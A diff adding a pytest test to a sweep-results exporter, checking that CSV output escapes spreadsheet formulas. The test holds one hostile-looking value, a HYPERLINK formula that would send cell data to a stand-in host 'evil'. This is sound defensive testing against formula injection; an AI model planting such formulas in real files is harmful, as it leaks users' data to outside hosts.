@@ -111,6 +111,12 @@ def test_an_unknown_sweep(monkeypatch: pytest.MonkeyPatch) -> None:
     assert cifar_ray.load_sweep(REAL).sweep.sweep_id == REAL
 
 
+def test_a_spreadsheet_computes_nothing_of_a_csv(real: SweepFrames, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    export_frames(replace(real, trials=real.trials.assign(error=formula)), tmp_path, "csv")
+    assert set(pd.read_csv(tmp_path / "trials.csv")["error"]) == {f"'{formula}"}
+
+
 def test_a_csv_has_events_as_json(real: SweepFrames, tmp_path: Path) -> None:
     trials = real.trials.assign(events=[({"what": "started", "at": "now"},)] * len(real.trials))
     export_frames(replace(real, trials=trials), tmp_path, "csv")
